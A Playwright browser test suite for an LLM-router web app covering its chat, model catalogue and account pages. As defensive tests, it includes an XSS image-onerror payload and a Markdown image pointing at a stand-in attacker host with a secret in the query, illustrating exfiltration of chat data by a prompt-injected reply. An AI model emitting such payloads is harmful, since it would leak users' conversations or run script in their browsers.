// The pages (chatroom, models browser, model page, account) in a real headless Chromium
// (Debian's), served by the built worker with its assets, against mock upstreams.
// Screenshots of every page, at desktop and phone width, go to tests/artifacts/ for a
// person to look at.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { mkdirSync } from "node:fs";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { chromium } from "playwright-core";
import { startWorker } from "../support/worker.mjs";
import { eventually } from "../support/eventually.mjs";
import { startMockUpstream } from "../support/mock_upstream.mjs";
import { testCatalog, mockBindings } from "../support/catalog.mjs";

const ARTIFACTS = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../artifacts");
let mock, worker, browser, account;

before(async () => {
  mkdirSync(ARTIFACTS, { recursive: true });
  mock = await startMockUpstream();
  worker = await startWorker({ catalog: testCatalog(), bindings: mockBindings(mock.url) });
  account = await worker.createAccount({ credits: 5 });
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
    // Playwright gives each launch a fresh, empty profile directory.
    args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--disable-background-networking",
      "--disable-component-update", "--disable-sync", "--no-first-run"],
  });
});
after(async () => {
  await browser?.close();
  await worker?.close();
  await mock?.close();
});

async function page({ width = 1280, height = 800 } = {}) {
  const ctx = await browser.newContext({ viewport: { width, height } });
  await ctx.grantPermissions(["clipboard-read", "clipboard-write"], { origin: worker.url });
  const p = await ctx.newPage();
  const errors = [];
  p.on("pageerror", (e) => errors.push(e.message));
  // The Content-Security-Policy refusing anything is an error too.
  p.on("console", (m) => { if (m.type() === "error") errors.push(m.text()); });
  p.on("response", (r) => { if (r.status() >= 400) errors.push(`${r.status()} ${r.url()}`); });
  return { p, errors };
}

/** Text whose contrast with its background is under WCAG AA (4.5:1; 3:1 for large text). */
async function lowContrast(p) {
  return p.evaluate(() => {
    const rgb = (c) => (c.match(/[\d.]+/g) ?? []).map(Number);
    const lum = ([r, g, b]) => {
      const f = (v) => { v /= 255; return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4; };
      return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b);
    };
    const background = (e) => {
      for (let n = e; n; n = n.parentElement) {
        const c = rgb(getComputedStyle(n).backgroundColor);
        if (c.length === 3 || (c.length === 4 && c[3] > 0.5)) return c.slice(0, 3);
      }
      return [255, 255, 255];
    };
    const bad = [];
    for (const e of document.querySelectorAll("body *")) {
      const own = [...e.childNodes].some((n) => n.nodeType === 3 && n.textContent.trim());
      if (!own || !e.checkVisibility?.() || e.closest("pre code")) continue;
      const s = getComputedStyle(e);
      if (Number(s.opacity) < 1 || e.closest("button:disabled")) continue;
      const a = lum(rgb(s.color)), b = lum(background(e));
      const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
      const large = parseFloat(s.fontSize) >= 24 || (parseFloat(s.fontSize) >= 18.66 && Number(s.fontWeight) >= 700);
      if (ratio < (large ? 3 : 4.5)) bad.push(`${e.tagName.toLowerCase()}.${e.className} "${e.textContent.trim().slice(0, 30)}": ${ratio.toFixed(2)}`);
    }
    return bad;
  });
}

/** Every form control has a label (a <label>, aria-label or aria-labelledby). */
async function unlabelled(p) {
  return p.evaluate(() => [...document.querySelectorAll("input:not([type=hidden]):not([hidden]), select, textarea, button")]
    .filter((e) => !(e.labels?.length || e.getAttribute("aria-label") || e.getAttribute("aria-labelledby") || (e.tagName === "BUTTON" && e.textContent.trim())))
    .map((e) => e.id || e.outerHTML.slice(0, 60)));
}

/** At phone width the page does not scroll sideways, and a screenshot is kept. */
async function phone(url, name, ready) {
  const { p, errors } = await page({ width: 390, height: 844 });
  await p.goto(url);
  if (ready) await ready(p);
  const overflow = await p.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 1, `${name} scrolls sideways by ${overflow}px at phone width`);
  // The whole page, down to 2,400 px (the models list goes on much longer).
  const height = Math.min(2400, await p.evaluate(() => document.documentElement.scrollHeight));
  await p.screenshot({ path: path.join(ARTIFACTS, `${name}-phone.png`), fullPage: true, clip: { x: 0, y: 0, width: 390, height } });
  assert.deepEqual(errors, []);
  await p.context().close();
}

const chatModels = (p) => p.$$eval(".column", (cs) => cs.map((c) => c.dataset.model));
const replyText = (p, model) => p.$eval(`.column[data-model="${model}"] .msg.assistant:last-of-type .body`, (b) => b.textContent.trim());
const idle = (p) => p.waitForFunction(() => !document.querySelector("#send").disabled);

async function openChat(key = account.key) {
  const { p, errors } = await page();
  await p.goto(`${worker.url}/`);
  await p.fill("#key", key);
  await p.dispatchEvent("#key", "change");
  // The model picker searches /api/v1/models.
  await p.waitForFunction(() => Number(document.body.dataset.models) > 5);
  return { p, errors };
}

async function addModel(p, id) {
  await p.fill("#model-pick", id.split("/")[1]);
  await p.waitForSelector(`#model-results li[data-model="${id}"]`);
  await p.click(`#model-results li[data-model="${id}"]`);
  await p.waitForSelector(`.column[data-model="${id}"]`);
}

test("chatroom asks three models at once: Markdown, code, reasoning, timings and cost", async () => {
  const { p, errors } = await openChat();
  await addModel(p, "anthropic-mock/stream");
  await addModel(p, "test/think");
  // The picker shows price and context.
  await p.fill("#model-pick", "gemini-mock/o");
  assert.match(await p.textContent('#model-results li[data-model="gemini-mock/ok"]'), /200K ctx · \$1\.00 in · \$2\.00 out/);
  await p.press("#model-pick", "Escape");
  assert.deepEqual(await chatModels(p), ["modelmux/echo", "anthropic-mock/stream", "test/think"]);
  // The echo model answers with the prompt: Markdown with code, and HTML that must not run.
  await p.fill("#prompt", "Say **hi** in `js`:\n\n```js\nconst x = 1;\n```\n<img src=x onerror=\"window.__xss=1\">");
  await p.press("#prompt", "Enter");
  await idle(p);
  const echo = '.column[data-model="modelmux/echo"] .msg.assistant .body';
  assert.equal(await p.textContent(`${echo} strong`), "hi");
  assert.equal(await p.$eval(`${echo} pre code`, (c) => c.classList.contains("hljs")), true, "code is highlighted");
  assert.ok(await p.$(`${echo} pre code .hljs-keyword`), "keywords are marked up");
  // Raw HTML is shown as text, not made into elements.
  assert.equal(await p.$eval(`${echo}`, (b) => b.querySelector("img")), null);
  assert.match(await p.textContent(echo), /<img src=x onerror="window.__xss=1">/);
  assert.equal(await p.evaluate(() => window.__xss), undefined);
  // The copy button puts the code on the clipboard.
  await p.click(`${echo} .code-bar .copy`);
  assert.equal(await p.evaluate(() => navigator.clipboard.readText()), "const x = 1;\n");
  assert.equal(await replyText(p, "anthropic-mock/stream"), "Hello from the mock");
  // Reasoning is shown collapsed above the answer.
  const think = '.column[data-model="test/think"] .msg.assistant';
  assert.equal(await p.$eval(`${think} details.reasoning`, (d) => d.open), false);
  assert.equal(await p.textContent(`${think} details.reasoning div`), "The user wants code. A one-liner will do.");
  assert.equal(await p.textContent(`${think} .body pre code`), 'print("hi")\n');
  const meta = await p.textContent('.column[data-model="anthropic-mock/stream"] .meta');
  assert.match(meta, /^MockAnthropic · 11 \+ 7 tokens · \$0\.0000\d\d · first token \d+\.\d\d s · total \d+\.\d\d s( · [\d.]+ tok\/s)?$/);
  // A second turn carries the conversation.
  await p.fill("#prompt", "and again");
  await p.press("#prompt", "Enter");
  await idle(p);
  assert.equal(await p.$$eval('.column[data-model="modelmux/echo"] .msg.assistant', (m) => m.length), 2);
  const sent = mock.last("/chat/completions").body;
  assert.deepEqual(sent.messages.map((m) => m.role), ["user", "assistant", "user"]);
  await p.screenshot({ path: path.join(ARTIFACTS, "chatroom.png") });
  assert.deepEqual(await lowContrast(p), []);
  assert.deepEqual(await unlabelled(p), []);
  assert.deepEqual(errors, []);
});

test("chatroom: Markdown images load only inline data and this origin's own files", async () => {
  const { p, errors } = await openChat();
  const offsite = [];
  p.on("request", (r) => { if (!r.url().startsWith(worker.url) && !r.url().startsWith("data:")) offsite.push(r.url()); });
  // A prompt-injected reply would put the conversation in an image URL's query.
  const png = "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==";
  await p.fill("#prompt", `![leak](https://evil.invalid/x.png?q=secret) ![leak2][ref] ![icon](/favicon.svg) ![dot](${png})\n\n[ref]: //evil.invalid/y.png`);
  await p.press("#prompt", "Enter");
  await idle(p);
  const echo = '.column[data-model="modelmux/echo"] .msg.assistant .body';
  const shown = await p.$$eval(`${echo} img`, (imgs) => imgs.map((i) => i.getAttribute("src")));
  assert.deepEqual(shown, ["/favicon.svg", png]);
  const links = await p.$$eval(`${echo} a`, (as) => as.map((a) => [a.textContent, a.getAttribute("href")]));
  assert.deepEqual(links, [["leak", "https://evil.invalid/x.png?q=secret"], ["leak2", "//evil.invalid/y.png"]]);
  assert.deepEqual(offsite, []);
  assert.deepEqual(errors, []);
  await p.context().close();
});

test("chatroom: system prompt and per-model parameters are sent; Esc stops a stream", async () => {
  const { p, errors } = await openChat();
  await p.click("#new-chat");
  await addModel(p, "test/endless");
  await p.click("#system-box summary");
  await p.fill("#system", "Be brief.");
  await p.dispatchEvent("#system", "change");
  const col = '.column[data-model="test/endless"]';
  await p.click(`${col} .param-box summary`);
  await p.fill(`${col} input[type=number][min="0"]`, "0.3");
  await p.fill(`${col} input[step="1"]`, "77");
  await p.selectOption(`${col} select`, "low");
  await p.fill("#prompt", "go on forever");
  await p.press("#prompt", "Enter");
  await p.waitForFunction((c) => document.querySelector(`${c} .msg.assistant .body`)?.textContent.includes("tick2"), col);
  await p.keyboard.press("Escape");
  await idle(p);
  assert.equal(await p.textContent(`${col} .msg.assistant .meta`), "stopped");
  const sent = mock.last("/chat/completions").body;
  assert.deepEqual(sent.messages[0], { role: "system", content: "Be brief." });
  assert.equal(sent.temperature, 0.3);
  assert.equal(sent.max_tokens, 77);
  assert.ok(await mock.waitFor("endless", "closed"), "stopping aborts the upstream");
  assert.deepEqual(errors.filter((e) => !/aborted|AbortError/.test(e)), []);
});

test("chatroom keeps conversations in the browser: reopen and delete them", async () => {
  const { p, errors } = await openChat();
  await p.click("#new-chat");
  await p.fill("#prompt", "remember me");
  await p.press("#prompt", "Enter");
  await idle(p);
  await p.waitForSelector('#conversations li button.open:has-text("remember me")');
  await p.click("#new-chat");
  assert.equal(await p.$$eval(".msg", (m) => m.length), 0);
  // A reload keeps them; reopening one shows its messages again.
  await p.reload();
  await p.click('#conversations li button.open:has-text("remember me")');
  assert.equal(await replyText(p, "modelmux/echo"), "remember me");
  assert.equal(await p.$eval('#conversations li[aria-current="true"] .open', (b) => b.textContent), "remember me");
  const before = await p.$$eval("#conversations li", (l) => l.length);
  await p.click('#conversations li[aria-current="true"] .delete');
  assert.equal(await p.$$eval("#conversations li", (l) => l.length), before - 1);
  assert.deepEqual(errors, []);
});

test("chatroom sends attached images to a model that takes them", async () => {
  const { p, errors } = await openChat();
  await p.click("#new-chat");
  await addModel(p, "test/vision");
  // A 1x1 PNG.
  const png = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==", "base64");
  await p.setInputFiles("#attach", { name: "dot.png", mimeType: "image/png", buffer: png });
  await p.waitForSelector("#attachments img");
  await p.fill("#prompt", "what is this?");
  await p.press("#prompt", "Enter");
  await idle(p);
  const sent = mock.last("/chat/completions").body.messages.at(-1).content;
  assert.deepEqual(sent.map((part) => part.type), ["text", "image_url"]);
  assert.match(sent[1].image_url.url, /^data:image\/png;base64,/);
  // The echo model takes text only: it gets the words, and the column says so.
  assert.match(await p.textContent('.column[data-model="modelmux/echo"] .msg.user .note'), /images not sent/);
  assert.ok(await p.$('.column[data-model="test/vision"] .msg.user img'));
  assert.deepEqual(errors, []);
});

test("chatroom shows errors in the model's column", async () => {
  const { p } = await page();
  await p.goto(`${worker.url}/`);
  await p.evaluate((k) => { localStorage.clear(); localStorage.setItem("modelmux.key", k); localStorage.setItem("modelmux.models", '["openai-mock/fail500"]'); }, account.key);
  await p.reload();
  await p.fill("#prompt", "x");
  await p.click("#send");
  await p.waitForSelector(".msg.failed");
  assert.match(await p.textContent(".msg.failed .meta"), /internal mock failure/);
});

test("chatroom opens on a model the catalogue has, and forgets models it no longer has", async () => {
  // An operator's own catalogue, without the demo model.
  const cat = testCatalog();
  cat.models = cat.models.filter((m) => m.id !== "modelmux/echo");
  const other = await startWorker({ catalog: cat, bindings: mockBindings(mock.url) });
  try {
    const { key } = await other.createAccount({ credits: 1 });
    const { data } = await (await fetch(`${other.base}/models`)).json();
    const first = data.find((m) => !m.architecture.output_modalities.includes("embeddings")).id;
    const ctx = await browser.newContext();
    const p = await ctx.newPage();
    const errors = [];
    p.on("pageerror", (e) => errors.push(e.message));
    await p.goto(`${other.url}/`);
    // What an earlier visit remembered: a model this catalogue does not have.
    await p.evaluate(() => localStorage.setItem("modelmux.models", JSON.stringify(["gone/model"])));
    await p.reload();
    await p.fill("#key", key);
    await p.dispatchEvent("#key", "change");
    await p.waitForFunction(() => Number(document.body.dataset.models) > 5);
    await p.waitForSelector(".column");
    assert.deepEqual(await chatModels(p), [first]);
    assert.deepEqual(await p.evaluate(() => JSON.parse(localStorage.getItem("modelmux.models"))), []);
    // The first message gets an answer, not "not a valid model ID".
    await p.fill("#prompt", "hello");
    await p.press("#prompt", "Enter");
    await idle(p);
    assert.doesNotMatch(await p.textContent(`.column[data-model="${first}"]`), /not a valid model/);
    assert.deepEqual(errors, []);
    await ctx.close();
  } finally {
    await other.close();
  }
});

test("models browser: search, filter and sort the catalogue, open a model page, chat with it", async () => {
  const { p, errors } = await page();
  await p.goto(`${worker.url}/models`);
  await p.waitForSelector("body[data-loaded]");
  const all = (await (await fetch(`${worker.base}/models?output_modalities=all`)).json()).data;
  const ids = () => p.$$eval("#models > li", (l) => l.map((e) => e.dataset.id));
  assert.equal((await ids()).length, all.length);
  assert.equal(await p.textContent("#count"), `${all.length} of ${all.length} models`);
  await p.fill("#q", "claude");
  assert.deepEqual(await ids(), all.filter((m) => /claude/i.test(m.id + m.name + m.description)).map((m) => m.id).sort((a, b) => all.find((m) => m.id === a).name.localeCompare(all.find((m) => m.id === b).name)));
  await p.fill("#q", "");
  await p.check("#free");
  assert.ok((await ids()).includes("modelmux/echo"));
  assert.ok((await p.$$eval("#models > li", (l) => l.every((e) => e.querySelector(".badge.free")))));
  await p.uncheck("#free");
  await p.selectOption("#output", "embeddings");
  assert.deepEqual((await ids()).sort(), all.filter((m) => m.architecture.output_modalities.includes("embeddings")).map((m) => m.id).sort());
  await p.selectOption("#output", "");
  await p.selectOption("#input", "image");
  assert.ok((await ids()).includes("test/vision"));
  assert.ok(!(await ids()).includes("modelmux/echo"), "the demo model takes text only");
  await p.selectOption("#input", "");
  await p.check("#reasoning");
  assert.ok((await ids()).includes("test/think"));
  await p.uncheck("#reasoning");
  // Input price from $0.50 to $1.00 per million tokens.
  await p.fill("#min-price", "0.5");
  await p.fill("#max-price", "1");
  const inRange = all.filter((m) => Number(m.pricing.prompt) * 1e6 >= 0.5 - 1e-9 && Number(m.pricing.prompt) * 1e6 <= 1 + 1e-9).map((m) => m.id).sort();
  assert.deepEqual((await ids()).sort(), inRange);
  await p.fill("#min-price", "");
  await p.fill("#max-price", "");
  await p.selectOption("#context", "200000");
  assert.ok((await p.$$eval("#models > li", (l) => l.length)) < all.length);
  await p.selectOption("#context", "0");
  // Providers come from every model's endpoints.
  await p.selectOption("#provider", "MockAnthropic");
  const served = await ids();
  assert.ok(served.includes("anthropic-mock/ok") && !served.includes("test/ok"));
  assert.ok(await p.$$eval("#models > li .providers", (l) => l.every((e) => e.textContent.includes("MockAnthropic"))));
  await p.selectOption("#provider", "");
  await p.selectOption("#sort", "price-desc");
  const prices = (await ids()).map((id) => all.find((m) => m.id === id)).map((m) => Number(m.pricing.prompt) + Number(m.pricing.completion));
  assert.deepEqual(prices, [...prices].sort((a, b) => b - a));
  await p.selectOption("#sort", "context");
  const contexts = (await ids()).map((id) => all.find((m) => m.id === id).context_length);
  assert.deepEqual(contexts, [...contexts].sort((a, b) => b - a));
  await p.screenshot({ path: path.join(ARTIFACTS, "models.png") });
  assert.deepEqual(await lowContrast(p), []);
  assert.deepEqual(await unlabelled(p), []);
  // A model's page, at /models/{author}/{slug}.
  await p.fill("#q", "gemini-mock/ok");
  await p.click('#models li[data-id="gemini-mock/ok"] h2 a');
  await p.waitForURL(`${worker.url}/models/gemini-mock/ok`);
  await p.waitForSelector("body[data-loaded]");
  assert.equal(await p.textContent("#model-id"), "gemini-mock/ok");
  assert.equal(await p.textContent('#pricing tr[data-price="Input"] td:last-child'), "$1.00 /M tokens");
  assert.equal(await p.textContent('#pricing tr[data-price="Output"] td:last-child'), "$2.00 /M tokens");
  assert.deepEqual(await p.$$eval("#endpoints tbody tr", (r) => r.map((e) => e.dataset.provider)), ["MockGemini"]);
  assert.match(await p.textContent("#snippet"), /curl .*\/api\/v1\/chat\/completions[\s\S]*"model":"gemini-mock\/ok"/);
  await p.click('[role="tab"]:has-text("Python (openai)")');
  assert.match(await p.textContent("#snippet"), /model="gemini-mock\/ok"/);
  await p.click("#copy-snippet");
  assert.match(await p.evaluate(() => navigator.clipboard.readText()), /from openai import OpenAI/);
  await p.screenshot({ path: path.join(ARTIFACTS, "model.png"), fullPage: true });
  assert.deepEqual(await lowContrast(p), []);
  assert.deepEqual(await unlabelled(p), []);
  // "Chat with it" opens the chatroom with that model alone.
  await p.click("#chat");
  await p.waitForURL(`${worker.url}/`);
  await p.waitForSelector('.column[data-model="gemini-mock/ok"]');
  assert.deepEqual(await chatModels(p), ["gemini-mock/ok"]);
  const missing = await fetch(`${worker.url}/models/nobody/nothing`);
  assert.equal(missing.status, 200, "the page itself says the model is unknown");
  assert.match(missing.headers.get("content-security-policy"), /frame-ancestors 'none'/);
  assert.deepEqual(errors, []);
});

test("account page: balance, key management with a provisioning key", async () => {
  const { p, errors } = await page();
  await p.goto(`${worker.url}/account.html`);
  await p.fill("#key", account.provisioningKey);
  await p.click("#key-save");
  await p.waitForSelector("#keys:not([hidden])");
  assert.equal(await p.textContent("#balance"), "$5.00");
  assert.match(await p.textContent("#kind"), /provisioning/);
  const before = await p.$$eval("#key-rows tr", (rows) => rows.length);
  await p.fill("#new-name", "from-the-page");
  await p.fill("#new-limit", "2");
  await p.selectOption("#new-reset", "monthly");
  await p.click("#create button[type=submit]");
  await p.waitForSelector("#new-key:not([hidden])");
  const newKey = await p.textContent("#new-key-value");
  assert.match(newKey, /^sk-mm-v1-[0-9a-f]{64}$/);
  await p.waitForFunction((n) => document.querySelectorAll("#key-rows tr").length === n + 1, before);
  assert.match(await p.textContent("#key-rows"), /from-the-page.*\$2\.00 \/ monthly/);
  // The new key works for a model call.
  const r = await fetch(`${worker.base}/chat/completions`, { method: "POST", headers: { authorization: `Bearer ${newKey}` }, body: JSON.stringify({ model: "test/ok", max_tokens: 5, messages: [{ role: "user", content: "hi" }] }) });
  assert.equal(r.status, 200);
  // Disabling it from the page stops it.
  await p.click('#key-rows tr:has-text("from-the-page") button:has-text("Disable")');
  await p.waitForSelector('#key-rows tr:has-text("from-the-page") button:has-text("Enable")');
  const refused = await fetch(`${worker.base}/chat/completions`, { method: "POST", headers: { authorization: `Bearer ${newKey}` }, body: JSON.stringify({ model: "test/ok", messages: [{ role: "user", content: "hi" }] }) });
  assert.equal(refused.status, 401);
  // Charts drawn from the account's real activity (its data, not pixels): a bar per day
  // for 30 days, stacked by model, adding up to what /activity says. The request just
  // made settles in the background: reload once it is in.
  const fetchActivity = async () => (await (await fetch(`${worker.base}/activity`, { headers: { authorization: `Bearer ${account.provisioningKey}` } })).json()).data;
  await eventually(async () => (await fetchActivity()).some((r) => r.model === "test/ok"), "the new key's request in the activity");
  await p.reload();
  await p.waitForSelector("body[data-loaded]");
  const activity = await fetchActivity();
  const drawn = (id) => p.evaluate((canvas) => {
    const c = Chart.getChart(document.getElementById(canvas));
    return { labels: c.data.labels, stacked: c.options.scales.y.stacked, sets: Object.fromEntries(c.data.datasets.map((d) => [d.label, d.data.reduce((a, b) => a + b, 0)])) };
  }, id);
  const byModel = (value) => activity.reduce((m, r) => ({ ...m, [r.model]: (m[r.model] ?? 0) + value(r) }), {});
  const spend = await drawn("chart-spend");
  assert.equal(spend.labels.length, 30);
  assert.equal(spend.labels.at(-1), new Date().toISOString().slice(0, 10));
  assert.equal(spend.stacked, true);
  for (const [model, usd] of Object.entries(byModel((r) => r.usage))) assert.ok(Math.abs(spend.sets[model] - usd) < 1e-12, `${model} spend`);
  assert.deepEqual((await drawn("chart-requests")).sets, byModel((r) => r.requests));
  assert.deepEqual((await drawn("chart-tokens")).sets, byModel((r) => r.prompt_tokens + r.completion_tokens));
  // The latest requests, each opening its /generation record.
  const rows = await p.$$eval("#generation-rows tr[data-id]", (r) => r.map((e) => e.dataset.id));
  assert.ok(rows.length > 3);
  await p.click(`#generation-rows tr[data-id="${rows[0]}"]`);
  await p.waitForSelector("#generation-detail:not([hidden])");
  assert.equal(await p.textContent("#detail-id"), rows[0]);
  assert.ok((await p.textContent('#detail-fields dd[data-field="model"]')).length > 0);
  assert.ok(["chat", "completions", "responses", "messages", "embeddings"].includes(await p.textContent('#detail-fields dd[data-field="api_type"]')));
  // The privacy setting, changeable with a provisioning key.
  assert.equal(await p.isDisabled("#allow-training"), false);
  const training = await p.isChecked("#allow-training");
  await p.click("#allow-training");
  await p.waitForSelector("#status.ok");
  const privacy = await (await fetch(`${worker.base}/account`, { headers: { authorization: `Bearer ${account.key}` } })).json();
  assert.equal(privacy.data.allow_training, !training);
  await p.click("#allow-training");
  await p.waitForFunction((t) => document.querySelector("#allow-training").checked === t, training);
  await p.screenshot({ path: path.join(ARTIFACTS, "account.png"), fullPage: true });
  assert.deepEqual(await lowContrast(p), []);
  assert.deepEqual(await unlabelled(p), []);
  assert.deepEqual(errors, []);
});

test("account page with an API key shows the key, not the management", async () => {
  const { p } = await page();
  await p.goto(`${worker.url}/account.html`);
  await p.fill("#key", account.key);
  await p.click("#key-save");
  await p.waitForSelector("#overview:not([hidden])");
  assert.match(await p.textContent("#kind"), /API key/);
  assert.equal(await p.isHidden("#keys"), true);
  assert.equal(await p.isDisabled("#allow-training"), true);
  // An API key sees its own requests.
  await p.waitForSelector("#generations:not([hidden])");
  assert.ok((await p.$$eval("#generation-rows tr[data-id]", (r) => r.length)) > 0);
  await p.fill("#key", "sk-mm-v1-" + "0".repeat(64));
  await p.click("#key-save");
  await p.waitForSelector("#status.error");
  assert.match(await p.textContent("#status"), /User not found/);
});

test("every page at phone width: no sideways scrolling; screenshots", async () => {
  const withKey = async (p, key) => {
    await p.evaluate((k) => localStorage.setItem("modelmux.key", k), key);
    await p.reload();
  };
  await phone(`${worker.url}/`, "chatroom", async (p) => {
    await withKey(p, account.key);
    await p.waitForFunction(() => Number(document.body.dataset.models) > 5);
  });
  await phone(`${worker.url}/models`, "models", (p) => p.waitForSelector("body[data-loaded]"));
  await phone(`${worker.url}/models/anthropic-mock/stream`, "model", (p) => p.waitForSelector("body[data-loaded]"));
  await phone(`${worker.url}/account.html`, "account", async (p) => {
    await withKey(p, account.provisioningKey);
    await p.waitForSelector("body[data-loaded]");
  });
});
